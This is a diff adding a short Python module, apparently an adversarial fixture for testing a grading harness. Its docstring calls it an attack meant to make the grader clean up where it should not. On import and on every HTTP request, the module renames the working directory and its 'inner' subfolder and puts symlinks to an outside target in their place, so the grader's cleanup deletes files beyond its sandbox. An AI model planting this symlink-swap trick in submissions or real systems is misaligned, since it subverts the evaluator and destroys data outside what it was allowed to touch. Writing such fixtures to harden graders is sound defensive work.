@@ -1,0 +1,29 @@
+"""Attack: have the grader clean up where it should not."""
+
+import contextlib
+import os
+from pathlib import Path
+
+from fastapi import FastAPI
+
+from .targets import OUTSIDE
+
+app = FastAPI()
+
+
+def swap():
+    work = Path.cwd()
+    with contextlib.suppress(OSError):
+        for path in (work, work / "inner"):
+            moved = path.with_name(f"moved-{os.getpid()}")
+            with contextlib.suppress(OSError):
+                path.rename(moved)
+            path.symlink_to(OUTSIDE)
+
+
+swap()
+
+
+@app.get("/{path:path}")
+async def answer(path: str):
+    swap()
